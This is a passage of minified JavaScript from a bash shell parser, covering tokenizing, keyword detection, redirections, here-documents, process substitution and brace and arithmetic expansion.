RBrace]]);var le=new Uint8Array(128);le[124]=1;le[38]=1;le[59]=1;le[40]=1;le[41]=1;le[60]=1;le[62]=1;le[32]=1;le[9]=1;le[10]=1;le[92]=2;le[39]=2;le[34]=2;le[36]=2;le[96]=
2;le[123]=2;function In(t,e,s){for(;e<s;){let r=t.charCodeAt(e);if(r===32||r===9)e++;else if(r===92&&e+1<s&&t.charCodeAt(e+1)===10)e+=2;else break}return e}var uh=new Uint8Array(
128);for(let t of[9,10,32,33,37,38,40,41,42,43,44,45,47,58,60,61,62,63,94,124])uh[t]=1;function zr(t,e,s){for(let r=e;r<s;r++){let n=t.charCodeAt(r);if(n===92||
n===39||n===34||n===36||n===96||(n===60||n===62)&&r+1<s&&t.charCodeAt(r+1)===40)return!0}return!1}function rh(t,e,s=!1,r){let n=0,o=0;for(let i=0;i<t.length;i++){
let a=t.charCodeAt(i);if(a===92){i++;continue}if(a===123){n++;continue}if(a===125){n>0&&n--;continue}if(a===39){for(i++;i<t.length&&t.charCodeAt(i)!==39;)i++;continue}
if(a===34){for(i++;i<t.length;){let c=t.charCodeAt(i);if(c===34)break;if(c===92){i+=2;continue}let d=r?.(i,!0)??i;if(d>i){i=d;continue}i++}continue}let l=r?.(i,
!1)??i;if(l>i){i=l-1;continue}if(s&&n===0){if(a===63){o++;continue}if(a===58&&o>0){o--;continue}}if(a===e&&n===0)return i}return-1}var fs=new Uint8Array(128);for(let t=97;t<=
122;t++)fs[t]=3;for(let t=65;t<=90;t++)fs[t]=3;for(let t=48;t<=57;t++)fs[t]=2;fs[95]=3;var ms=new Uint8Array(128);ms[63]=1;ms[64]=1;ms[42]=1;ms[43]=1;ms[33]=1;ms[61]=
1;function nh(t){return t<128&&t!==61&&ms[t]===1}var u_={63:"?",64:"@",42:"*",43:"+",33:"!"};function oh(t){let e=t.type;return e==="Literal"||e==="SimpleExpans\
ion"||e==="ParameterExpansion"||e==="CommandExpansion"||e==="ArithmeticExpansion"}function p_(t,e,s){for(let r=e;r<s;r++){let n=t.charCodeAt(r);if(n<48||n>57)return!1}
return s>e}var xt=-1,hc=0,ih=1,gc=2,ah=3,Be=4;function f_(t,e){let s=t[t.length-1],r=e[0],n=0;s?.type==="Literal"&&r?.type==="Literal"&&s.end===r.pos&&(t[t.length-
1]={type:"Literal",pos:s.pos,end:r.end,text:s.text+r.text,value:s.value+r.value},n=1);for(let o=n;o<e.length;o++)t.push(e[o]);return t}function lh(t){return t<xt}
function ch(t){return-t-2}function mc(t,e,s,r){let n=r;for(let o=e;o<s&&n>=0;o++){let i=t.charCodeAt(o);if(n>=Be)i===91?n++:i===93&&--n===Be&&(n=gc);else if(n===
hc)n=i<128&&fs[i]&1?ih:xt;else if(n===ih){if(i<128&&fs[i]&2)continue;i===91?n=Be+1:i===43?n=ah:n=i===61?-o-2:xt}else n===gc?i===43?n=ah:n=i===61?-o-2:xt:n=i===61?
-o-2:xt}return n}function Ce(t,e,s,r=0,n=0){t.token=e,t._value=s,t.pos=r,t.end=n,t.fileDescriptor=void 0,t.variableName=void 0,t.descriptorEnd=0,t.delimiterQuoted=
!1,t.content=void 0,t.assignmentOperatorPos=-1,t.raw=!1,t.keywordEligible=!1}function Ps(t,e,s,r,n){t.token=e,t._value=null,t.pos=s,t.end=r,t.fileDescriptor=void 0,
t.variableName=void 0,t.descriptorEnd=0,t.delimiterQuoted=!1,t.content=void 0,t.assignmentOperatorPos=-1,t.raw=n,t.keywordEligible=!1}function dh(t,e,s){switch(t.
charCodeAt(e)){case 33:return s===1?b.Bang:void 0;case 123:return s===1?b.LBrace:void 0;case 125:return s===1?b.RBrace:void 0;case 105:{if(s!==2)return;let r=t.
charCodeAt(e+1);return r===102?b.If:r===110?b.In:void 0}case 102:return s===2?t.charCodeAt(e+1)===105?b.Fi:void 0:s===3?t.startsWith("for",e)?b.For:void 0:s===8&&
t.startsWith("function",e)?b.Function:void 0;case 116:return s===4&&t.startsWith("then",e)?b.Then:void 0;case 101:return s!==4?void 0:t.startsWith("else",e)?b.Else:
t.startsWith("elif",e)?b.Elif:t.startsWith("esac",e)?b.Esac:void 0;case 100:return s===2?t.charCodeAt(e+1)===111?b.Do:void 0:s===4&&t.startsWith("done",e)?b.Done:
void 0;case 99:return s===4?t.startsWith("case",e)?b.Case:void 0:s===6&&t.startsWith("coproc",e)?b.Coproc:void 0;case 119:return s===5&&t.startsWith("while",e)?
b.While:void 0;case 117:return s===5&&t.startsWith("until",e)?b.Until:void 0;case 115:return s===6&&t.startsWith("select",e)?b.Select:void 0;default:return}}var C={
Normal:0,CommandStart:1,TestMode:2,CommandPrefix:3,Declaration:4,ArrayElement:5,FunctionName:6,CasePattern:7,EvalArgument:8};function m_(t){return t===32||t===9||
t===10||t===124}var ot=class t{static _findSubstitutionEnd;src;srcEnd;parenBoundary;pos;current;nextState;hasPeek;pendingHereDocs;substitutionContext;_errors=null;_buildParts=!1;_buildValue=!1;_nestingDepth=0;constructor(e,s=0,r=e.
length,n=!1,o=Vr()){if(this.src=e,this.srcEnd=r,this.parenBoundary=n,this.pos=s,this.current=new Ai(this),this.nextState=new Ai(this),this.hasPeek=!1,this.pendingHereDocs=
null,this.substitutionContext=o,s===0&&e.charCodeAt(0)===35&&e.charCodeAt(1)===33){let i=e.indexOf(`
`);this.pos=i===-1?this.srcEnd:i+1}}getSource(){return this.src}fork(e,s,r=!1){let n=new t(this.src,e,s,r,this.substitutionContext);return n._nestingDepth=this.
_nestingDepth,n}getSubstitutionContext(){return this.substitutionContext}get errors(){return this._errors??(this._errors=[])}commandExpansion(e,s,r,n,o=!1){let i=this.
scriptWindow(this.src,r,r+n.length,o);return new kt("CommandExpansion",e,this.pos,s,i)}decodedCommandExpansion(e,s,r){let n=this.scriptWindow(r,0,r.length,!1,!0);
return new kt("CommandExpansion",e,this.pos,s,n)}processSubstitution(e,s,r,n){let o=this.scriptWindow(this.src,e+2,e+2+n.length,!this._unbalanced);return new Si(
e,this.pos,s,r,o)}scriptWindow(e,s,r,n,o=!1){if(this._nestingDepth>256)return;let i=o?void 0:this.substitutionContext;return{source:e,start:s,end:r,depth:this._nestingDepth+
1,parenBoundary:n,context:i}}getPos(){return this.pos}findSubstitutionEnd(e,s,r=this._nestingDepth+1){return t._findSubstitutionEnd===void 0?-1:t._findSubstitutionEnd(
this.src,e,s,r,this.substitutionContext)}_tokenValue(e,s,r){return r?this.src.slice(e,s):this.wordValueOf(e,s)}wordValueOf(e,s){let r=this.pos,n=this.srcEnd,o=this.
_bracketWindow,i=this._arithmeticBracketWindow,a=this._buildValue,l=this._unbalanced,c=this._errors===null?0:this._errors.length;this.pos=e,this.srcEnd=s,this._buildValue=
!0,this.readWordText(),this.pos<s&&this._wordAssignmentState!==void 0&&this._wordAssignmentState>=Be&&(this.pos=e,this.readWordText(!0));let d=this._wordText;return this.
pos=r,this.srcEnd=n,this._bracketWindow=o,this._arithmeticBracketWindow=i,this._buildValue=a,this._unbalanced=l,this._errors!==null&&(this._errors.length=c),d}findClosingBracket(e,s=this.
srcEnd){let r=Math.min(s,this.srcEnd),n=this._bracketWindow;if((!n||n.limit!==r)&&(n={limit:r,depth:this._nestingDepth,last:this.src.lastIndexOf("]",r-1)},this.
_bracketWindow=n),e>n.last||(n.depth!==this._nestingDepth&&(n={limit:r,depth:this._nestingDepth,last:n.last},this._bracketWindow=n),n.failed?.has(e)))return-1;let o=[],
i=this.findClosingShellDelimiter(e,s,93,!1,!0,o);if(i===-1){let a=n.failed??(n.failed=new Set);for(let l of o)for(let c of l)a.add(c)}return i}findClosingArithmeticBracket(e,s=this.
srcEnd){let r=Math.min(s,this.srcEnd),n=this._arithmeticBracketWindow;return(!n||n.end!==r||n.depth!==this._nestingDepth)&&(n={end:r,depth:this._nestingDepth,failed:new Set},
this._arithmeticBracketWindow=n),n.failed.has(e)?-1:this.findClosingShellDelimiter(e,s,93,!1,!1,void 0,n.failed)}findClosingBrace(e,s=this.srcEnd){return this.findClosingShellDelimiter(
e,s,125)}findClosingParenthesis(e,s=this.srcEnd){let r=this.pos,n=this.srcEnd,o=this._bracketWindow,i=this._arithmeticBracketWindow,a=this._unbalanced;this.pos=
e,this.srcEnd=Math.min(s,this.srcEnd),this.extractBalanced();let l=this._unbalanced?-1:this.pos-1;return this.pos=r,this.srcEnd=n,this._bracketWindow=o,this._arithmeticBracketWindow=
i,this._unbalanced=a,l}findArithmeticExpansionEnd(e,s=this.srcEnd){let r=this.fork(e,s);return r.pos=e+1,r.scanArithmeticBody(),r.pos}findArithmeticWordEnd(e,s=this.
srcEnd){let r=this.fork(e,s);return r.pos=e,r.scanArithmeticWordEnd()}scanArithmeticWordEnd(){for(;this.pos<this.srcEnd;){let e=this.src.charCodeAt(this.pos);if(e===
36){this.readDollar();continue}if(e===96){this.readBacktickExpansion();continue}if(e===39){this.pos++,this.skipSQ();continue}if(e===34){this.pos++,this.skipDQ();
continue}if(e===92){this.pos+=2;continue}if(e===91){let s=this.findClosingBracket(this.pos+1);if(s!==-1){this.pos=s+1;continue}}if((e===60||e===62)&&this.src.charCodeAt(
this.pos+1)===40){this.pos+=2,this.extractBalanced();continue}if(e<128&&uh[e])break;this.pos++}return this.pos}findClosingShellDelimiter(e,s,r,n=!1,o=!0,i,a){let l=this.
pos,c=this.srcEnd,d=this._bracketWindow,u=this._arithmeticBracketWindow,p=this._unbalanced;this.srcEnd=Math.min(s,this.srcEnd);let f=[r];i?.push([]);let m=a?[e]:
void 0,h=e,g=!0,y=-1;for(;h<this.srcEnd;){let x=f[f.length-1];i&&x===93&&i[i.length-1].push(h);let _=this.src.charCodeAt(h);if(_===92){h+1<this.srcEnd&&this.src.
charCodeAt(h+1)!==10&&(g=!1),h+=2;continue}if(_===35&&n&&f.length===1&&g){for(;h<this.srcEnd&&this.src.charCodeAt(h)!==10;)h++;continue}if(_===39){this.pos=h+1,
this.skipSQ(),h=this.pos,g=!1;continue}if(_===34){this.pos=h+1,this.skipDQ(),h=this.pos,g=!1;continue}if(_===96){for(h++;h<this.srcEnd&&this.src.charCodeAt(h)!==
96;)this.src.charCodeAt(h)===92&&h++,h++;h<this.srcEnd&&h++,g=!1;continue}if(_===36&&h+1<this.srcEnd&&this.src.charCodeAt(h+1)===40||(_===60||_===62)&&h+1<this.
srcEnd&&this.src.charCodeAt(h+1)===40){this.pos=h+2,this.extractBalanced(),h=this.pos,g=!1;continue}if(_===36&&h+1<this.srcEnd){let E=this.src.charCodeAt(h+1);if(E===
39){h=Rn(this.src,h+2,this.srcEnd).end,g=!1;continue}if(E===36){h+=2,g=!1;continue}if(E===123&&o){f.push(125),i?.push([]),h+=2,g=!1;continue}}if(n&&f.length===1&&
(_===91&&g?(f.push(93),i?.push([])):y===-1&&(_===59||_===38||_===124||_===60||_===62||_===40&&!nh(this.src.charCodeAt(h-1)))&&(y=h)),x===93&&_===91)f.push(93),i?.
push([]),m?.push(h+1);else if(x===41&&_===40)f.push(41),i?.push([]);else if(_===x){if(f.pop(),m?.pop(),i?.pop(),f.length===0)return this.pos=l,this.srcEnd=c,this.
_bracketWindow=d,this._arithmeticBracketWindow=u,this._unbalanced=p,y!==-1&&this.errors.push({message:`unexpected '${this.src[y]}' in array assignment`,pos:y}),
h;g=!1,h++;continue}g=_<128&&(le[_]&1)!==0,h++}if(m)for(let x of m)a.add(x);return this.pos=l,this.srcEnd=c,this._bracketWindow=d,this._arithmeticBracketWindow=
u,this._unbalanced=p,-1}scanBraceExpansion(e,s){let r=this.src,n=this.srcEnd,o=s.get(e);if(o!==void 0)return o;let i=this.pos,a=this._unbalanced,l=this._errors===
null?0:this._errors.length,c=[e,0],d=e+1;for(;d<n;){let u=r.charCodeAt(d),p=u<128?le[u]:0;if(p===0){if(d++,u===125){let m=c.pop();if(s.set(c.pop(),m?d:-1),c.length===
0)break}else(u===44||u===46&&r.charCodeAt(d)===46)&&(c[c.length-1]=1);continue}let f=d+1<n?r.charCodeAt(d+1):0;if(p&1)if(f===40&&(u===60||u===62))this.pos=d+2,this.
extractBalanced(),d=this.pos;else if(u===40&&nh(r.charCodeAt(d-1))){let m=this.findClosingShellDelimiter(d+1,n,41);if(m===-1)break;d=m+1}else break;else if(u===
92)d+=2;else if(u===39)this.pos=d+1,this.skipSQ(),d=this.pos;else if(u===34)this.pos=d+1,this.skipDQ(),d=this.pos;else if(u===96){for(d++;d<n&&r.charCodeAt(d)!==
96;)d+=r.charCodeAt(d)===92?2:1;d++}else if(u===123)c.push(d,0),d++;else if(f===39)d=Rn(r,d+2,n).end;else if(f===123){let m=this.findClosingBrace(d+2,n);if(m===
-1)break;d=m+1}else f===40?(this.pos=d+2,this.extractBalanced(),d=this.pos):d++}this.pos=i,this._unbalanced=a,this._errors!==null&&(this._errors.length=l);for(let u=0;u<
c.length;u+=2)s.set(c[u],-1);return s.get(e)}skipSubshellBody(){return this.extractBalanced(!1),this._unbalanced?-1:this.pos}skipCompoundBody(e){let s=[{close:e,
phase:e===b.Esac?"case-pattern":"commands"}],r=!0;for(;;){let n=s[s.length-1].phase,o=r?C.CommandStart:C.Normal;n==="function-name"?o=C.FunctionName:n==="case-p\
attern"&&r&&(o=C.CasePattern);let i=this.next(o),a=i.token;if(a===b.EOF)return-1;let l=s.length-1,c=s[l];if(c.phase==="function-name"){if(a===b.Newline)continue;
c.phase="function-body",r=!0;continue}else if(c.phase==="function-body"){if(a===b.Newline)continue;if(c.phase="commands",r=!0,a===b.LParen&&this.peek(C.Normal).
token===b.RParen){this.next(C.Normal),c.phase="function-body";continue}}else if(c.phase==="coproc-command"){if(a===b.Newline)continue;if(a===b.Word){c.phase="co\
proc-body",r=!0;continue}c.phase="commands",r=!0}else if(c.phase==="coproc-body"){if(a===b.Newline||(c.phase=a===b.Word&&i.keywordEligible&&i.value==="time"?"ti\
me-command":"commands",r=!0,c.phase==="time-command"))continue}else if(c.phase==="time-command"){if(a===b.Word&&i.keywordEligible&&i.value==="-p"){c.phase="time\
-command-after-p";continue}if(a===b.Word&&i.keywordEligible&&i.value==="--"){c.phase="commands";continue}c.phase="commands",r=!0}else if(c.phase==="time-command\
-after-p"){if(a===b.Word&&i.keywordEligible&&i.value==="--"){c.phase="commands";continue}c.phase="commands",r=!0}else if(c.phase==="for-header"){if(a===b.ArithCmd||
a===b.Semi||a===b.Newline){r=!0;continue}if(a===b.Do||a===b.LBrace){c.close=a===b.Do?b.Done:b.RBrace,c.phase="commands",r=!0;continue}}else if(c.phase==="case-w\
ord"){if(a===b.Newline)continue;c.phase="case-in",r=!1;continue}else if(c.phase==="case-in"){if(a===b.Newline){r=!0;continue}c.phase="case-pattern",r=!0;continue}else if(c.
phase==="case-pattern"){if(a===b.Esac&&r){if(s.pop(),s.length===0)return i.end;r=!1;continue}a===b.RParen?(c.phase="commands",r=!0):r=a===b.Newline;continue}if(a===
c.close){if(s.pop(),s.length===0)return i.end;r=!1;continue}if(r)switch(a){case b.LParen:s.push({close:b.RParen,phase:"commands"});break;case b.LBrace:s.push({close:b.
RBrace,phase:"commands"});break;case b.If:s.push({close:b.Fi,phase:"commands"});break;case b.For:s.push({close:b.Done,phase:"for-header"});break;case b.While:case b.
Until:case b.Select:s.push({close:b.Done,phase:"commands"});break;case b.Case:s.push({close:b.Esac,phase:"case-word"});break;case b.DblLBracket:if(!this.skipTestCommandBody())
return-1;r=!1;continue;case b.Assignment:case b.Redirect:case b.Bang:case b.Then:case b.Else:case b.Elif:case b.Do:case b.In:break;case b.Semi:case b.Newline:case b.
Pipe:case b.And:case b.Or:case b.Amp:case b.DoubleSemi:case b.SemiAmp:case b.DoubleSemiAmp:break;case b.Function:c.phase="function-name";break;case b.Coproc:c.phase=
"coproc-command";break;default:a===b.Word&&i.keywordEligible&&i.value==="time"?(c.phase="time-command",r=!0):r=!1;continue}switch(a){case b.Semi:case b.Newline:case b.
Pipe:case b.And:case b.Or:case b.Amp:r=!0;break;case b.DoubleSemi:case b.SemiAmp:case b.DoubleSemiAmp:c.close===b.Esac&&(c.phase="case-pattern"),r=!0;break;case b.
RParen:r=!0;break}}}skipTestGroup(){let e=1;for(;;){let s=this.next(C.TestMode);if(s.token===b.EOF)return-1;if(s.token===b.DblRBracket)return this.unshift(s),-1;
if(s.token===b.LParen)e++;else if(s.token===b.RParen&&--e===0)return s.end}}skipTestCommandBody(){for(;;){let e=this.next(C.TestMode).token;if(e===b.DblRBracket)
return!0;if(e===b.EOF)return!1}}buildWordParts(e){this._buildParts=!0,this.pos=e;let s=this.src.charCodeAt(e);if((s===60||s===62)&&e+1<this.srcEnd&&this.src.charCodeAt(
e+1)===40){this.pos=e+2;let r=this.extractBalanced(),n=this.src.slice(e,this.pos),o=this.processSubstitution(e,n,s===60?"<":">",r);this.pos<this.srcEnd?(this.readWordText(),
this._wordParts?this._wordParts.unshift(o):this._wordParts=[o]):this._wordParts=[o]}else this.readWordText(),this.pos<this.srcEnd&&this._wordAssignmentState!==void 0&&
this._wordAssignmentState>=Be&&(this.pos=e,this.readWordText(!0));return this._wordParts}buildEmbeddedWordParts(e,s=!1){return this._buildParts=!0,this.pos=e,this.
readInnerWordText(!1,s),this._wordParts}buildArrayElementParts(e){let s=this.findClosingBracket(e+1);if(s===-1)return this.buildWordParts(e);let r=this.src;this.
_buildParts=!0;let n=zr(r,e,s+1)?this.parseSubFieldWord(e,s+1,"embedded"):void 0;this.pos=s+1,this.readWordText(!1,C.ArrayElement);let o=this.pos,i=rt(r,s+1,o),
a=r.charCodeAt(i),l=a===61||a===43&&r.charCodeAt(i+1)===61,c=n?.parts,d=this._wordParts;if(l&&(d=Bt(r,s+1,o,d)??d),!c&&!d)return l?null:Bt(r,e,o,void 0)??null;let u=r.
slice(e,s+1);c||(c=[{type:"Literal",pos:e,end:s+1,text:u,value:n?.value??u}]),d||(d=o>s+1?[{type:"Literal",pos:s+1,end:o,text:r.slice(s+1,o),value:this._wordText}]:
[]);let p=f_(c,d);return l||(p=Bt(r,e,o,p)??p),p.length>1||p[0].type!=="Literal"?p:null}buildHereDocParts(e,s){this._buildParts=!0;let r=this.src,n=[],o=!1,i="",
a=e,l=e,c=()=>{l>a&&(n.push({type:"Literal",pos:a,end:l,value:i,text:r.slice(a,l)}),i="")};for(;l<s;){let d=r.charCodeAt(l);if(d===92){if(l+1<s){let u=r.charCodeAt(
l+1);if(u===10){l+=2;continue}if(u===36||u===96||u===92){i+=String.fromCharCode(u),l+=2;continue}}i+="\\",l++;continue}if(d===36&&r.charCodeAt(l+1)!==39&&r.charCodeAt(
l+1)!==34){c(),a=l,this.pos=l,this.readDollar(),this._resultPart?(o=!0,n.push(this._resultPart),a=this.pos):i+=r.slice(l,this.pos),l=this.pos;continue}if(d===96){
c(),a=l,this.pos=l,this.readBacktickExpansion(),this._resultPart?(o=!0,n.push(this._resultPart),a=this.pos):i+=r.slice(l,this.pos),l=this.pos;continue}i+=r[l],l++}
return c(),o?n:null}registerHereDocTarget(e){if(this.pendingHereDocs!==null){for(let s of this.pendingHereDocs)if(!s.target){s.target=e;return}}}readTestRegexWord(){
this.hasPeek=!1,this.skipSpacesAndTabs();let e=this.src,s=this.srcEnd,r=this.pos,n=0;for(;this.pos<s;){let o=e.charCodeAt(this.pos);if(o===40){n++,this.pos++;continue}
if(o===92){this.pos+=this.pos+1<s?2:1;continue}if(o===39){let i=this.pos++,a=i>r&&e.charCodeAt(i-1)===36;for(;this.pos<s&&e.charCodeAt(this.pos)!==39;)a&&e.charCodeAt(
this.pos)===92&&this.pos+1<s&&this.pos++,this.pos++;this.pos<s?this.pos++:this.errors.push({message:a?"unterminated ANSI-C quote":"unterminated single quote",pos:i});
continue}if(o===34){this.pos++,this.readDoubleQuoted();continue}if(o===96){this.readBacktickExpansion();continue}if(n>0){o===41&&n--,this.pos++;continue}if(o===
36){this.readDollar();continue}if((o===60||o===62)&&this.pos+1<s&&e.charCodeAt(this.pos+1)===40){let i=this.pos;this.pos+=2,this.extractBalanced(),this._unbalanced&&
this.errors.push({message:"unterminated process substitution",pos:i});continue}if(o<128&&le[o]&1&&o!==124)break;this.pos++}return Ce(this.current,b.Word,e.slice(
r,this.pos),r,this.pos),this.current}readCStyleForExprs(){this.hasPeek=!1;let e=this.src,s=this.srcEnd;for(;this.pos<s&&(e.charCodeAt(this.pos)===32||e.charCodeAt(
this.pos)===9);)this.pos++;let r=this.pos;this.pos<s&&e.charCodeAt(this.pos)===40&&this.pos++;let n=[this.pos,0,0],o=["","","",0,0,0],i=0,a=1,l=this.pos,c=!1,d=u=>{
let p=e.slice(l,u);o[i]=p.trim(),o[3+i]=n[i]+p.length-p.trimStart().length};for(;this.pos<s&&a>0;){let u=e.charCodeAt(this.pos);if(u===40)a++,this.pos++;else if(u===
41){if(a--,a===0){for(c||d(this.pos),i<2&&this.errors.push({message:"expected three arithmetic expressions in for header",pos:this.pos}),this.pos++;this.pos<s&&
(e.charCodeAt(this.pos)===32||e.charCodeAt(this.pos)===9);)this.pos++;this.pos<s&&e.charCodeAt(this.pos)===41&&this.pos++;break}this.pos++}else if(u===59&&a===1){
if(i===2){c||(d(this.pos),this.errors.push({message:"expected three arithmetic expressions in for header",pos:this.pos})),c=!0,this.pos++;continue}d(this.pos),i++,
this.pos++,l=this.pos,n[i]=l}else u===36?this.readDollar():u===96?this.readBacktickExpansion():u===92?this.pos+=this.pos+1<s?2:1:u===39?(this.pos++,this.skipSQ()):
u===34?(this.pos++,this.skipDQ()):this.pos++}return a>0&&(c||d(this.pos),this.errors.push({message:"unterminated arithmetic for header",pos:r})),o}peek(e=C.Normal){
return this.hasPeek||(this.readNext(this.nextState,e),this.hasPeek=!0),this.nextState}peekFollow(e){if(!this.hasPeek){let s=e[this.current.token]?C.CommandStart:
C.Normal;this.readNext(this.nextState,s),this.hasPeek=!0}return this.nextState}next(e=C.Normal){if(this.hasPeek){this.hasPeek=!1;let s=this.current;return this.
current=this.nextState,this.nextState=s,this.current}return this.readNext(this.current,e),this.current}unshift(e){this.nextState.copyFrom(e),this.hasPeek=!0}readNext(e,s){
let r=this.src,n=this.srcEnd,o=this.pos;for(;;){if(o=In(r,o,n),s===C.TestMode)for(;o<n&&r.charCodeAt(o)===10;)o=In(r,o+1,n);if(o>=n||r.charCodeAt(o)!==35)break;
for(;o<n&&r.charCodeAt(o)!==10;)o++}if(this.pos=o,o>=n){this.consumePendingHereDocs(),Ce(e,b.EOF,"",o,o);return}let i=o,a=r.charCodeAt(o);if(a===10){this.pos++,
this.consumePendingHereDocs(),Ce(e,b.Newline,`
`,i,this.pos);return}if(s===C.TestMode&&(a===60||a===62)&&!(this.pos+1<this.srcEnd&&r.charCodeAt(this.pos+1)===40)){this.pos++,Ce(e,b.Word,a===60?"<":">",i,this.
pos),e.keywordEligible=!0;return}a<128&&le[a]&1&&this.tryReadOperator(e,a,s,i)||a===91&&s===C.ArrayElement&&this.readArrayElement(e,i)||this.readWord(e,s,i)}tryReadOperator(e,s,r,n){
let o=this.src,i=this.pos,a=i+1<this.srcEnd?o.charCodeAt(i+1):0;switch(s){case 59:return a===59?i+2<this.srcEnd&&o.charCodeAt(i+2)===38?(this.pos+=3,Ce(e,b.DoubleSemiAmp,
";;&",n,this.pos),!0):(this.pos+=2,Ce(e,b.DoubleSemi,";;",n,this.pos),!0):a===38?(this.pos+=2,Ce(e,b.SemiAmp,";&",n,this.pos),!0):(this.pos++,Ce(e,b.Semi,";",n,
this.pos),!0);case 124:return a===124?(this.pos+=2,Ce(e,b.Or,"||",n,this.pos),!0):a===38?(this.pos+=2,Ce(e,b.Pipe,"|&",n,this.pos),!0):(this.pos++,Ce(e,b.Pipe,"\
|",n,this.pos),!0);case 38:if(a===38)return this.pos+=2,Ce(e,b.And,"&&",n,this.pos),!0;if(a===62){this.pos+=2;let l=this.pos<this.srcEnd&&o.charCodeAt(this.pos)===
62;return l&&this.pos++,this.readRedirectTarget(e,l?"&>>":"&>",n)}return this.pos++,Ce(e,b.Amp,"&",n,this.pos),!0;case 40:if(r===C.CommandStart&&a===40){let l=this.
errors.length;if(this.readArithmeticCommand(e,n),!this._notArithmetic)return!0;this.errors.length=l,this.pos=n}return this.pos++,Ce(e,b.LParen,"(",n,this.pos),!0;case 41:
return this.pos++,Ce(e,b.RParen,")",n,this.pos),!0;case 60:case 62:return this.readRedirection(e,n);default:return!1}}readRedirection(e,s){let r=this.src,n=r.charCodeAt(
this.pos),o="";if(n===60){this.pos++;let i=this.pos<this.srcEnd?r.charCodeAt(this.pos):0;if(i===60){this.pos++;let a=this.pos<this.srcEnd?r.charCodeAt(this.pos):
0;if(a===60)this.pos++,o="<<<";else{let l=a===45;l&&this.pos++,this.skipSpacesAndTabs();let c=this.pos;(this.pos>=this.srcEnd||r.charCodeAt(this.pos)!==35)&&this.
readHereDocDelimiter();let d=this.pos>c;return d&&(this.pendingHereDocs??(this.pendingHereDocs=[])).push({delimiter:this._hereDelim,strip:l,quoted:this._hereQuoted}),
Ce(e,b.Redirect,l?"<<-":"<<",s,this.pos),e.content=d?this._hereDelim:void 0,e.delimiterQuoted=d&&this._hereQuoted,e.targetPos=c,e.targetEnd=d?this.pos:c,!0}}else{
if(i===40)return this.readProcessSubstitution(e,"<",s),!0;i===62?(o="<>",this.pos++):i===38?(o="<&",this.pos++):o="<"}}else if(n===62){this.pos++;let i=this.pos<
this.srcEnd?r.charCodeAt(this.pos):0;if(i===40)return this.readProcessSubstitution(e,">",s),!0;i===62?(o=">>",this.pos++):i===38?(o=">&",this.pos++):i===124?(o=
">|",this.pos++):o=">"}return this.readRedirectTarget(e,o,s)}readRedirectTarget(e,s,r){let n=this.src;if(this.skipSpacesAndTabs(),this.pos<this.srcEnd){let o=n.
charCodeAt(this.pos);if((o===60||o===62)&&this.pos+1<this.srcEnd&&n.charCodeAt(this.pos+1)===40){let a=this.pos;this.pos+=2,this.extractBalanced(),this._unbalanced&&
this.errors.push({message:"unterminated process substitution",pos:a});let l=n.slice(a,this.pos);return Ce(e,b.Redirect,s,r,this.pos),e.content=l,e.targetPos=a,e.
targetEnd=this.pos,!0}let i=this.pos;return o!==10&&o!==35&&this.readRedirectTargetText(),this.redirectToken(e,s,r,i),!0}return this.redirectToken(e,s,r,this.pos),
!0}readRedirectTargetText(){let e=this._buildValue;this._buildValue=!0,this.readWordText(),this._buildValue=e}redirectToken(e,s,r,n){let o=this.pos>n&&(this._wordText.
length>0||this._wordQuoted);Ce(e,b.Redirect,s,r,this.pos),e.content=o?this._wordText:void 0,e.targetPos=n,e.targetEnd=o?this.pos:n}readProcessSubstitution(e,s,r){
this.pos++,this.extractBalanced(),this._unbalanced&&this.errors.push({message:"unterminated process substitution",pos:r});let n=this.src.slice(r,this.pos);Ce(e,
b.Word,n,r,this.pos)}readHereDocDelimiter(){let e=this.src,s=this.srcEnd,r=this._buildValue;this._buildValue=!0;let n="",o=!1;for(;this.pos<s;){let i=e.charCodeAt(
this.pos);if(i===39){for(o=!0,this.pos++;this.pos<s&&e.charCodeAt(this.pos)!==39;)n+=e[this.pos],this.pos++;this.pos<s&&this.pos++}else if(i===34){for(o=!0,this.
pos++;this.pos<s&&e.charCodeAt(this.pos)!==34;){if(e.charCodeAt(this.pos)===92&&this.pos+1<s){let a=e.charCodeAt(this.pos+1);if(a===10){this.pos+=2;continue}(a===
36||a===96||a===34||a===92)&&this.pos++}n+=e[this.pos],this.pos++}this.pos<s&&this.pos++}else if(i===92){if(this.pos+1<s&&e.charCodeAt(this.pos+1)===10){this.pos+=
2;continue}o=!0,this.pos++,this.pos<s?(n+=e[this.pos],this.pos++):n+="\\"}else if(i===96){let a=this.pos;for(this.pos++;this.pos<s&&e.charCodeAt(this.pos)!==96;)
e.charCodeAt(this.pos)===92&&this.pos++,this.pos++;this.pos<s&&this.pos++,n+=e.slice(a,this.pos)}else if(i===36){let a=this.pos+1<s?e.charCodeAt(this.pos+1):0;(a===
39||a===34)&&(o=!0),this.readDollar(),n+=this._resultText}else{if(i<128&&le[i]&1)break;n+=e[this.pos],this.pos++}}this._buildValue=r,this._hereDelim=n,this._hereQuoted=
o}consumePendingHereDocs(){let e=this.pendingHereDocs;if(!(e===null||e.length===0)){for(let s of e){let r=this.pos,n=this.skipHereDocBody(s.delimiter,s.strip,this.
parenBoundary,s.quoted);s.target&&(s.target.body.pos=r,s.target.body.end=n,s.target.body.text=this.src.slice(r,n),this.hereDocClosingPos!==-1&&(s.target.closing=
{pos:this.hereDocClosingPos,end:this.hereDocClosingEnd}))}e.length=0}}hereDocClosingPos=-1;hereDocClosingEnd=-1;matchHereDocDelimiter(e,s,r,n){let o=this.src,i=s;
for(let a=0;a<e.length;){if(n&&o.charCodeAt(i)===92&&i+1<r&&o.charCodeAt(i+1)===10){i+=2;continue}if(i>=r||o.charCodeAt(i)!==e.charCodeAt(a))return-1;i++,a++}return i}logicalLineEnd(e,s,r){
let n=this.src,o=n.indexOf(`
`,e);for(;o!==-1&&o<s;){if(!r)return o;let i=o;for(;i>e&&n.charCodeAt(i-1)===92;)i--;if((o-i)%2===0)return o;e=o+1,o=n.indexOf(`
`,e)}return s}skipHereDocBody(e,s,r=!1,n=!1){this.hereDocClosingPos=-1,this.hereDocClosingEnd=-1;let o=this.src,i=this.srcEnd;for(;this.pos<i;){let a=this.pos,l=this.
logicalLineEnd(a,i,!n);for(;;){let d=a;if(s)for(;a<l&&o.charCodeAt(a)===9;)a++;if(n||(a=rt(o,a,l)),a===d)break}let c=this.matchHereDocDelimiter(e,a,l,!n);if(c!==
-1&&!n&&(c=rt(o,c,l)),c===l){let d=this.pos;return(!r||!this.parenBoundary||l!==i)&&(this.hereDocClosingPos=a,this.hereDocClosingEnd=l),this.pos=l<i?l+1:l,d}if(r&&
